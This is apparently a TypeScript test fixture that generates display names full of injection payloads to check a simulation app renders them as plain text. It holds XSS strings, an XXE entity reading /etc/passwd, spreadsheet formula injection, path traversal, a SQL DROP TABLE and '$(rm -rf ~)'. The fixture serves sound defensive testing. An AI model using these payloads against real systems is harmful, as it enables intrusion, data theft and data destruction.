/** Names with markup, code and formulas in them: made by hand, and generated, the same at every run. */

/** Random whole numbers below a bound, the same at every run (the generator is xorshift32). */
export function dice(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % below;
  };
}

/** Longer names are refused (cpp/sim/experiment.hpp). */
export const LONGEST_NAME = 64;

const byHand = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="window.polluted=1">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</option></select><img src=x onerror=alert(1)>',
  '</math><img src=x onerror=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href=https://example.org/>',
  '<meta http-equiv=refresh content=0;url=https://example.org>',
  '<link rel=stylesheet href=//example.org/x.css>',
  '<style>*{display:none}</style>',
  '<style>@import url(//example.org)</style>',
  '<form action=//example.org><button>Pause',
  '<button aria-label="Deliver a spike to AMPA">',
  '<template shadowrootmode=open><script>1</script>',
  '<foreignObject><body onload=alert(1)>',
  '<animate onbegin=alert(1) attributeName=x>',
  '<use href="data:image/svg+xml,<svg onload=alert(1)>">',
  '<!--',
  '<![CDATA[',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x&#62;',
  '&amp;&quot;&apos;&nbsp;',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'https://example.org/',
  '//example.org/x.js',
  'url(https://example.org/x.png)',
  'red;background:url(//example.org)',
  '}*{background:url(//example.org)}',
  'var(--x);} body{display:none}',
  'expression(alert(1))',
  `\${alert(1)}`,
  `\`\${alert(1)}\``,
  '{{constructor.constructor("alert(1)")()}}',
  '#{7*7} <%= 7*7 %>',
  "$& $1 $` $' $$",
  "'; alert(1); //",
  '"; alert(1); //',
  '\\"; alert(1); //',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  'x" style="position:fixed;inset:0',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '__defineGetter__',
  'undefined',
  'null',
  'NaN',
  '0',
  '-1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org","x")',
  '=WEBSERVICE("http://example.org/"&A1)+',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  ' =1+1',
  '"=1+1"',
  'x;=1+1',
  'x; "=1+1',
  '＝1+1',
  '%0d%0aSet-Cookie:x=1',
  '../../etc/passwd',
  'C:\\CON',
  '$(rm -rf ~)',
  "Robert'); DROP TABLE synapses;--",
  'a,b;c\td'.replace('\t', ' '),
  'a_<b>_c',
  '_<i>x</i>',
  'W'.repeat(LONGEST_NAME),
  '<'.repeat(LONGEST_NAME),
  '🧠'.repeat(LONGEST_NAME),
];

const tags = ['img', 'svg', 'video', 'audio', 'body', 'input', 'details', 'iframe', 'object', 'embed', 'math', 'link'];
const handlers = ['onload', 'onerror', 'ontoggle', 'onfocus', 'onclick', 'onpointerover', 'onbeforeprint'];
const ways = ['', '"', "'", '</p>', '-->', '</style>', '\\', '&quot;'];
const separators = [' ', '/', '  '];

/** Every tag with every handler, each time out of another place and in another writing. */
const generated = tags.flatMap((tag, row) =>
  handlers.map((handler, column) => {
    const roll = dice(1 + row * handlers.length + column);
    const way = ways[roll(ways.length)] ?? '';
    const gap = separators[roll(separators.length)] ?? ' ';
    const shouted = roll(2) === 0 ? tag : tag.toUpperCase();
    return `${way}<${shouted}${gap}src=x${gap}${handler}=alert(1)>`;
  }),
);

/** All of them can be seen, so they are names as good as any: they are to be shown as they are. */
export const markup: string[] = [...new Set([...byHand, ...generated])].filter(
  (name) => Array.from(name).length <= LONGEST_NAME,
);
